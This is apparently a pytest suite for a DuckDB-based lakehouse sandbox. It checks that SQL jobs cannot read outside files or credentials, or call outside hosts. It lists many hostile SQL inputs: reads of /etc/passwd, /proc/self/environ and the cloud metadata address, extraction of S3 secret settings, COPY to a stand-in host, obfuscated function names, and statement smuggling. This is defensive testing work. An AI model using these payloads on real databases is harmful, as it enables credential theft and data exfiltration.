"""The sandbox: every known way out, through every door that SQL comes in by; and what a session may do all the same."""

from __future__ import annotations

import contextlib
import http.server
import random
import re
import sqlite3
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest

from dbt.adapters.lakehouse.errors import LakehouseError
from dbt.adapters.lakehouse.jobs.job import (
    Action,
    Append,
    Create,
    Describe,
    Edit,
    Input,
    Job,
    JobResult,
    Query,
)
from dbt.adapters.lakehouse.jobs.sandbox import Sandbox
from dbt.adapters.lakehouse.jobs.worker import Worker
from dbt.adapters.lakehouse.settings import LakeSettings
from dbt.adapters.lakehouse.tables.values import Constraints, TableSpec

UUID = "4c6f1c6e-0000-4000-8000-000000000001"
SECRET = "the canary sings"
KEY_ID = "AKIACANARY"
SLOW = "SELECT count(*) FROM range(1000000) a(i), range(1000000) b(j) WHERE i + j < 0"


class Canary:
    """An HTTP server that nobody may call, and files that nobody may read."""

    def __init__(self, folder: Path) -> None:
        self.calls: list[str] = []
        calls = self.calls

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self) -> None:
                calls.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.end_headers()
                self.wfile.write(SECRET.encode())

            do_GET = do_HEAD = do_PUT = do_POST = do_DELETE = answer  # noqa: N815  # http.server's names

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever)
        self.thread.start()
        self.host = f"127.0.0.1:{self.server.server_port}"
        self.folder = folder
        folder.mkdir()
        (folder / "canary.txt").write_text(SECRET)
        (folder / "canary.csv").write_text(f"a,b\n{SECRET},2\n")
        (folder / "canary.json").write_text(f'{{"a": "{SECRET}"}}\n')
        duckdb.execute(f"COPY (SELECT '{SECRET}' AS a) TO '{folder}/canary.parquet'")
        with sqlite3.connect(folder / "catalog.sqlite") as catalog:
            catalog.execute("CREATE TABLE tokens (hash TEXT)")
            catalog.execute("INSERT INTO tokens VALUES (?)", (SECRET,))
        catalog.close()
        with duckdb.connect(str(folder / "canary.duckdb")) as database:
            database.execute(f"CREATE TABLE t AS SELECT '{SECRET}' AS a")

    def close(self) -> None:
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()


@pytest.fixture(scope="module")
def canary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Canary]:
    canary = Canary(tmp_path_factory.mktemp("outside") / "c")
    yield canary
    canary.close()


@pytest.fixture
def lake(tmp_path: Path) -> Path:
    (tmp_path / "lake").mkdir()
    (tmp_path / "spill").mkdir()
    return tmp_path / "lake"


def settings_for(lake: Path, canary: Canary | None = None, **more: Any) -> LakeSettings:
    s3 = {}
    if canary is not None:
        s3 = {
            "extensions": ("httpfs",),
            "duckdb_settings": {
                "s3_endpoint": canary.host,
                "s3_use_ssl": "false",
                "s3_url_style": "path",
                "s3_access_key_id": KEY_ID,
                "s3_secret_access_key": SECRET,
                "http_retries": "0",
            },
        }
    return LakeSettings(
        **{
            "warehouse": f"file://{lake}",
            "catalog": "",
            "memory_limit": "500MB",
            "temp_directory": str(lake.parent / "spill"),
            "sandbox": True,
            **s3,
            **more,
        }
    )


class Bench:
    """A worker in its sandbox, with tables to work on."""

    def __init__(self, lake: Path, settings: LakeSettings) -> None:
        self.lake = lake
        self.worker = Worker(settings)
        self.worker.begin()
        self.number = 0
        self.mine = self.create("mine", "SELECT 1 AS a")
        self.other = self.create("other", f"SELECT '{SECRET}' AS a")

    def run(self, action: Action, *inputs: Input, **more: Any) -> JobResult:
        return self.worker.run(
            Job(key="k", database="lake", default_schema="s", action=action, inputs=inputs or (self.mine,), **more)
        )

    def query(self, sql: str, *inputs: Input, **more: Any) -> list[tuple[Any, ...]]:
        return list(self.worker.run(self.job(Query(sql=sql), *inputs, **more)).rows)

    def job(self, action: Action, *inputs: Input, **more: Any) -> Job:
        return Job(key="k", database="lake", default_schema="s", action=action, inputs=inputs, **more)

    def spec(self, name: str, **more: Any) -> TableSpec:
        self.number += 1
        return TableSpec(location=f"file://{self.lake}/{name}/{self.number}", table_uuid=UUID, **more)

    def create(self, name: str, sql: str, *inputs: Input, **more: Any) -> Input:
        written = self.worker.run(self.job(Create(spec=self.spec(name, **more), sql=sql), *inputs)).written
        assert written is not None
        return Input(database="lake", schema="s", name=name, metadata_location=written.metadata_location)

    def close(self) -> None:
        self.worker.close()


@pytest.fixture(scope="module")
def armed(tmp_path_factory: pytest.TempPathFactory, canary: Canary) -> Iterator[Bench]:
    """A worker that has an S3 extension and credentials to lose."""
    folder = tmp_path_factory.mktemp("armed")
    (folder / "lake").mkdir()
    (folder / "spill").mkdir()
    (folder / "lake" / "link.txt").symlink_to(canary.folder / "canary.txt")
    (folder / "lake" / "catalog.sqlite").write_bytes((canary.folder / "catalog.sqlite").read_bytes())
    bench = Bench(folder / "lake", settings_for(folder / "lake", canary))
    yield bench
    bench.close()


@pytest.fixture(scope="module")
def unarmed(armed: Bench) -> Iterator[Bench]:
    """A worker on the same lake without the extension, which takes most of the time that a new DuckDB takes."""
    bench = Bench(armed.lake, settings_for(armed.lake))
    yield bench
    bench.close()


def test_a_database_beside_the_lake_is_said_to_be_no_part_of_it(unarmed: Bench) -> None:
    with pytest.raises(
        LakehouseError, match=r'Catalog "crm" does not exist!; jobs of a service read nothing but the lake'
    ):
        unarmed.query("SELECT * FROM crm.main.people")


# ways out

FILES = (
    "{c}/canary.txt",
    "{c}/canary.csv",
    "{c}/canary.json",
    "{c}/canary.parquet",
    "{c}/canary.duckdb",
    "{c}/catalog.sqlite",
    "{c}/*",
    "file://{c}/canary.txt",
    "{l}/link.txt",
    "{l}/catalog.sqlite",
    "{l}/../lake/catalog.sqlite",
    "{l}/other/**/*.parquet",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/etc/passwd",
    "http://{h}/x.csv",
    "http://169.254.169.254/latest/meta-data",
    "s3://lake/x?s3_endpoint={h}&s3_use_ssl=false",
    "s3://lake/../other/x.parquet",
    "s3://other/x.parquet",
)
READERS = (
    "read_text",
    "read_blob",
    "read_csv",
    "read_csv_auto",
    "read_json",
    "read_json_auto",
    "read_ndjson_objects",
    "read_parquet",
    "parquet_scan",
    "parquet_metadata",
    "parquet_schema",
    "parquet_file_metadata",
    "parquet_full_metadata",
    "parquet_kv_metadata",
    "read_duckdb",
    "glob",
    "sniff_csv",
)
SELECTS = (
    *(f"SELECT * FROM {reader}('{file}')" for reader in ("read_text", "glob") for file in FILES),
    *(f"SELECT * FROM {reader}('{{c}}/canary.parquet')" for reader in READERS),
    *(f"SELECT * FROM '{file}'" for file in FILES),
    *(f"FROM query_table('{file}')" for file in FILES[:4]),
    # written so that a search for names would not find them
    "SELECT * FROM \"read_text\"('{c}/canary.txt')",
    "SELECT * FROM system.main.read_text('{c}/canary.txt')",
    "SELECT * FROM READ_TEXT/* */('{c}/canary.txt')",
    "SELECT * FROM read_text\u200b('{c}/canary.txt')",
    "SELECT * FROM\ufeffread_text\u2060 ('{c}/canary.txt')",
    "SELECT * FROM query('FROM read_text(''{c}/canary.txt'')')",
    "SELECT * FROM query(E'FROM read\\x5ftext(''{c}/canary.txt'')')",
    "SELECT * FROM query('FROM read_' || 'text(''{c}/canary.txt'')')",
    "SELECT * FROM query($x$FROM read_text('{c}/canary.txt')$x$)",
    "SELECT * FROM query('FROM query(''FROM enable_logging()'')')",
    "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "SELECT (SELECT content FROM read_text('{c}/canary.txt'))",
    "WITH x AS (FROM read_text('{c}/canary.txt')) SELECT * FROM x",
    "SELECT 1 AS a) TO '{c}/out.csv' (FORMAT csv); COPY (SELECT 2 AS a",
    "SELECT 1 AS a; COPY (SELECT 2) TO '{c}/out.csv'",
    "SELECT 1 AS a; ATTACH '{c}/canary.duckdb' AS stolen",
    # E4, E7
    "SELECT * FROM enable_logging(storage='file', storage_config={{'path': '{c}/log'}})",
    "SELECT * FROM \"Enable_Logging\"('HTTP')",
    "SELECT * FROM enable_profiling()",
    "FROM disable_logging()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM which_secret('s3://lake/x', 's3')",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM pg_catalog.pg_settings",
    "SELECT current_setting('s3_access_key_id')",
    "SELECT current_setting('s3_secret' || '_access_key')",
    "SELECT current_setting('allowed_directories')",
    "SELECT * FROM duckdb_logs",
    "SELECT * FROM duckdb_external_file_cache()",
    "SELECT getenv('HOME')",
    "SELECT * FROM arrow_scan(1, 2, 3)",
)
STATEMENTS = (
    "CREATE SECRET stolen (TYPE s3, KEY_ID 'x', SECRET 'y', ENDPOINT '{h}', USE_SSL false, SCOPE 's3://lake')",
    "CREATE OR REPLACE TEMPORARY SECRET stolen (TYPE s3, ENDPOINT '{h}')",
    "CREATE PERSISTENT SECRET stolen (TYPE s3, ENDPOINT '{h}')",
    "DROP SECRET stolen",
    "ATTACH 'w' AS w (TYPE iceberg, ENDPOINT 'http://{h}')",
    "ATTACH '{c}/canary.duckdb' AS stolen",
    "ATTACH '{c}/catalog.sqlite' AS stolen (TYPE sqlite)",
    "ATTACH ':memory:' AS more",
    "DETACH lake",
    "COPY (SELECT 1) TO '{c}/out.csv'",
    "COPY (SELECT 1) TO 'http://{h}/out.csv'",
    "COPY (SELECT 1) TO 's3://lake/out.csv'",
    "COPY mine TO '{c}/out.parquet' (FORMAT parquet)",
    "EXPLAIN ANALYZE COPY (SELECT 1) TO '{c}/out.csv'",
    "EXPLAIN (ANALYZE) COPY (SELECT 1) TO '{c}/out.csv'",
    "PREPARE p AS COPY (SELECT 1) TO '{c}/out.csv'",
    "COPY FROM DATABASE memory TO temp",
    "EXPORT DATABASE '{c}/export'",
    "IMPORT DATABASE '{c}'",
    "PRAGMA import_database('{c}')",
    "INSTALL spatial",
    "FORCE INSTALL spatial FROM 'http://{h}'",
    "LOAD '{c}/canary.txt'",
    "UPDATE EXTENSIONS",
    "CHECKPOINT",
    "FORCE CHECKPOINT",
    "CALL enable_logging(storage='file', storage_config={{'path': '{c}/log'}})",
    "CALL enable_logging()",
    "CALL enable_profiling()",
    "CALL load_aws_credentials()",
    "CALL quack_serve('127.0.0.1:0')",
    "CALL force_checkpoint()",
    "PRAGMA enable_profiling",
    "PRAGMA enable_profiling='json'",
    "PRAGMA profiling_output='{c}/out.json'",
    "PRAGMA disable_checkpoint_on_shutdown",
    "PRAGMA temp_directory='{c}'",
    "PRAGMA json_execute_serialized_sql('{{}}')",
    "PRAGMA verify_parallelism",
    "SET enable_external_access = true",
    "SET GLOBAL allowed_directories = ['/']",
    "SET lock_configuration = false",
    "RESET lock_configuration",
    "SET temp_directory = '{c}'",
    "SET log_query_path = '{c}/log'",
    "SET profiling_output = '{c}/out'",
    "SET enable_profiling = 'json'",
    "SET custom_extension_repository = 'http://{h}'",
    "SET allow_unsigned_extensions = true",
    "SET home_directory = '{c}'",
    "SET secret_directory = '{c}'",
    "SET http_proxy = '{h}'",
    "SET s3_endpoint = '{h}'",
    "SET s3_access_key_id = 'x'",
    "SET threads = 64",
    "SET memory_limit = '1TB'",
    "SET max_expression_depth = 100000000",
    "SET search_path = 'memory'",
    "SET TimeZone = (SELECT content FROM read_text('{c}/canary.txt'))",
    "USE memory",
    "CREATE TEMP MACRO peek() AS TABLE FROM read_text('{c}/canary.txt')",
    "CREATE TEMP VIEW peek AS FROM read_text('{c}/canary.txt')",
    "CREATE TEMP TABLE peek AS FROM '{c}/canary.csv'",
    "CREATE TYPE peek AS ENUM (SELECT content FROM read_text('{c}/canary.txt'))",
    "SET VARIABLE peek = (SELECT content FROM read_text('{c}/canary.txt'))",
    "PREPARE peek AS FROM enable_logging()",
    "INSERT INTO stolen SELECT * FROM read_text('{c}/canary.txt')",
    "DESCRIBE FROM read_csv('{c}/canary.csv')",
    "SUMMARIZE '{c}/canary.parquet'",
    "EXPLAIN ANALYZE SELECT * FROM '{c}/canary.parquet'",
    "COPY mine FROM '{c}/canary.csv'",
    "BEGIN; COPY (SELECT 1) TO '{c}/out.csv'; COMMIT",
)


def filled(bench: Bench, canary: Canary, sql: str) -> str:
    return (
        sql.replace("{c}", str(canary.folder))
        .replace("{l}", str(bench.lake))
        .replace("{h}", canary.host)
        .replace("{{", "{")
        .replace("}}", "}")
    )


def through_query(bench: Bench, sql: str) -> JobResult:
    return bench.run(Query(sql=sql))


def through_describe(bench: Bench, sql: str) -> JobResult:
    return bench.run(Describe(sql=sql))


def through_model(bench: Bench, sql: str) -> JobResult:
    return bench.run(Create(spec=bench.spec("model"), sql=sql))


def through_append(bench: Bench, sql: str) -> JobResult:
    assert bench.mine.metadata_location is not None
    return bench.run(Append(base=bench.mine.metadata_location, sql=sql, on_schema_change="append_new_columns"))


def through_merge_source(bench: Bench, sql: str) -> JobResult:
    statement = "INSERT INTO s.mine SELECT 1 FROM incoming"
    return bench.run(Edit(target=bench.mine, matching=None, statements=(statement,), source="incoming", sql=sql))


def through_statement(bench: Bench, sql: str) -> JobResult:
    return bench.run(Edit(target=bench.mine, matching=None, statements=(f"INSERT INTO s.mine {sql}",)))


def through_condition(bench: Bench, sql: str) -> JobResult:
    return bench.run(Edit(target=bench.mine, matching=f"EXISTS ({sql}\n)", statements=()))


def through_constraint(bench: Bench, sql: str) -> JobResult:
    checks = Constraints(checks=(("", f"EXISTS ({sql}\n)"),))
    return bench.run(Create(spec=bench.spec("model", constraints=checks), sql="SELECT 1 AS a"))


def through_view(bench: Bench, sql: str) -> JobResult:
    view = Input(database="lake", schema="s", name="v", sql=sql, is_view=True)
    return bench.run(Query(sql="SELECT * FROM s.v"), view)


def through_ref(bench: Bench, sql: str) -> JobResult:
    view = Input(database="lake@v1", schema="s", name="v", sql=sql, is_view=True)
    return bench.run(Query(sql='SELECT * FROM "lake@v1".s.v'), view)


def through_macro(bench: Bench, sql: str) -> JobResult:
    definition = f"CREATE OR REPLACE MACRO peek() AS TABLE {sql}"
    return bench.run(Query(sql="SELECT * FROM peek()"), definitions=(definition,))


def through_header(bench: Bench, sql: str) -> JobResult:
    return bench.run(Create(spec=bench.spec("model"), sql="SELECT 1 AS a"), setup=(sql,))


def through_definition(bench: Bench, sql: str) -> JobResult:
    return bench.run(Query(sql="SELECT 1"), definitions=(sql,))


def through_bare_statement(bench: Bench, sql: str) -> JobResult:
    return bench.run(Edit(target=bench.mine, matching=None, statements=(sql,)))


Door = Callable[[Bench, str], JobResult]
SELECT_DOORS: tuple[Door, ...] = (
    through_query,
    through_describe,
    through_model,
    through_append,
    through_merge_source,
    through_statement,
    through_condition,
    through_constraint,
    through_view,
    through_ref,
    through_macro,
)
STATEMENT_DOORS: tuple[Door, ...] = (through_query, through_header, through_definition, through_bare_statement)


def files_of(canary: Canary) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in canary.folder.rglob("*") if path.is_file()}


def said_of(ask: Callable[[], Any]) -> Any:
    """What comes back, be it an error."""
    try:
        return ask()
    except LakehouseError as error:
        return error


def try_all(bench: Bench, canary: Canary, door: Door, ways: tuple[str, ...]) -> list[str]:
    """The ways that led out through a door."""
    before = files_of(canary)
    out = []
    for way in ways:
        sql = filled(bench, canary, way)
        said = said_of(lambda sql=sql: door(bench, sql))  # type: ignore[misc]
        if not isinstance(said, LakehouseError) or KEY_ID in str(said) or SECRET in str(said):
            out.append(f"{sql}: {said}")
    assert files_of(canary) == before
    assert bench.query("SELECT 1 + 1") == [(2,)]
    assert canary.calls == []
    return out


@pytest.mark.parametrize("door", SELECT_DOORS)
def test_no_select_leads_out(armed: Bench, unarmed: Bench, canary: Canary, door: Door) -> None:
    assert try_all(armed, canary, door, tuple(way for way in SELECTS if _calls(way))) == []
    assert try_all(unarmed, canary, door, tuple(way for way in SELECTS if not _calls(way))) == []


@pytest.mark.parametrize("door", STATEMENT_DOORS)
def test_no_statement_leads_out(armed: Bench, unarmed: Bench, canary: Canary, door: Door) -> None:
    assert try_all(armed, canary, door, tuple(way for way in STATEMENTS if _calls(way))) == []
    assert try_all(unarmed, canary, door, tuple(way for way in STATEMENTS if not _calls(way))) == []


def _calls(way: str) -> bool:
    """Whether it needs an extension, or something that only one brings, to lead anywhere."""
    return re.search(r"\{h\}|s3|http|secret|setting|TYPE iceberg", way, re.IGNORECASE) is not None


def test_the_settings_hold_without_the_rules(armed: Bench, canary: Canary, monkeypatch: pytest.MonkeyPatch) -> None:
    """The text of SQL is looked at for what settings do not stop. Files and addresses are theirs, whatever gets past it."""
    monkeypatch.setattr(Sandbox, "check", lambda *_: None)
    inside = [way for way in SELECTS if not _is_for_rules(way)]
    assert len(inside) > 50
    for door in (through_query, through_view):
        assert try_all(armed, canary, door, tuple(inside)) == []
    reaching = [way for way in STATEMENTS if re.search(r"\{[ch]\}", way) and "SECRET" not in way and "SET " not in way]
    assert len(reaching) > 20
    assert try_all(armed, canary, through_query, tuple(way for way in reaching if not _is_for_rules(way))) == []


def _is_for_rules(way: str) -> bool:
    """What only the rules stop: it opens no file, or (E2) goes around the settings."""
    return bool(
        re.search(
            r"logging|profil|duckdb_|_secret|setting|getenv|json_execute|TYPE iceberg|PREPARE|CREATE TEMP MACRO"
            r"|CREATE TEMP VIEW|serialized|arrow_scan",
            way,
            re.IGNORECASE,
        )
    )


def test_the_canary_would_notice(canary: Canary, lake: Path) -> None:
    """What the tests above try does work where there is no sandbox, so that they mean something."""
    bench = Bench(lake, settings_for(lake, canary, sandbox=False))
    try:
        assert bench.query(f"SELECT content FROM read_text('{canary.folder}/canary.txt')") == [(SECRET,)]
        with contextlib.suppress(LakehouseError):
            bench.query(f"SELECT * FROM read_text('s3://lake/x?s3_endpoint={canary.host}&s3_use_ssl=false')")
        assert canary.calls
        assert bench.query("SELECT current_setting('s3_access_key_id')") == [(KEY_ID,)]
    finally:
        bench.close()
        canary.calls.clear()


# chance

ODD_SPACES = (" ", "\n", "/* */", "--\n", "\u00a0", "\u200b", "\ufeff", "")


def _spelled(name: str, chance: random.Random) -> str:
    """A function's name in one of the ways in which DuckDB understands it."""
    name = "".join(chance.choice((letter.lower(), letter.upper())) for letter in name)
    prefix = chance.choice(("", "", "main.", "system.main.", "system."))
    quoted = f'"{name}"' if chance.random() < 0.4 else name
    return prefix + quoted + chance.choice(ODD_SPACES)


def _wrapped(sql: str, chance: random.Random) -> str:
    """A SELECT somewhere within another one."""
    for _ in range(chance.randrange(3)):
        sql = chance.choice(
            (
                "SELECT * FROM ({0}) AS x",
                "WITH x AS ({0}) SELECT * FROM x",
                "SELECT (SELECT count(*) FROM ({0}) AS y), 1 AS b",
                "SELECT * FROM range(2) r(i), ({0}) AS z",
                "SELECT 1 AS a UNION ALL BY NAME SELECT * FROM ({0}) AS u",
                "SELECT a.* FROM (SELECT 1 AS one) AS o LEFT JOIN LATERAL ({0}) AS a ON true",
                "SELECT * FROM query($q${0}$q$)",
                "DESCRIBE {0}",
                "SUMMARIZE {0}",
                "EXPLAIN ANALYZE {0}",
            )
        ).format(sql)
    return sql


@pytest.mark.parametrize("seed", range(3))
def test_no_function_that_duckdb_has_reads_a_canary(armed: Bench, canary: Canary, seed: int) -> None:
    """Every table function that DuckDB and its extension know, however it is spelled, with paths as what it is given."""
    chance = random.Random(seed)
    with duckdb.connect() as plain:
        names = [
            row[0]
            for row in plain.execute(
                "SELECT DISTINCT function_name FROM duckdb_functions() "
                "WHERE function_type IN ('table', 'table_macro', 'pragma') OR list_contains(parameters, 'path') ORDER BY 1"
            ).fetchall()
        ]
    assert {"read_text", "glob", "parquet_metadata", "import_database"} <= set(names)
    before = files_of(canary)
    for name in names:
        path = filled(armed, canary, chance.choice(FILES))
        given = chance.choice((f"'{path}'", f"['{path}']", f"$x${path}$x$", f"'{path}' || ''", f"path := '{path}'"))
        sql = chance.choice(
            ("SELECT * FROM {0}({1})", "FROM {0}({1})", "SELECT {0}({1})", "CALL {0}({1})", "PRAGMA {0}({1})")
        )
        text = _wrapped(sql.format(_spelled(name, chance), given), chance)
        said = said_of(lambda text=text: armed.query(text))  # type: ignore[misc]
        assert SECRET not in f"{said!r} {said}", text
        assert KEY_ID not in f"{said!r} {said}", text
        assert armed.query("SELECT 42") == [(42,)], text
    assert canary.calls == []
    assert files_of(canary) == before
    assert armed.query("SELECT 42") == [(42,)]


def test_no_job_waits_for_a_thread_to_start(lake: Path) -> None:
    """Under a limit of memory, Python waits for ever for a thread that cannot come up."""
    before = set(threading.enumerate())
    with contextlib.closing(Worker(settings_for(lake))) as worker:
        [spare] = set(threading.enumerate()) - before
        for number in range(3):
            # Another home is another DuckDB.
            job = Job(key="k", database="lake", default_schema=f"s{number}", action=Query(sql="SELECT 42"))
            assert worker.run(job).rows == [(42,)]
            assert set(threading.enumerate()) - before == {spare}
    assert not spare.is_alive()
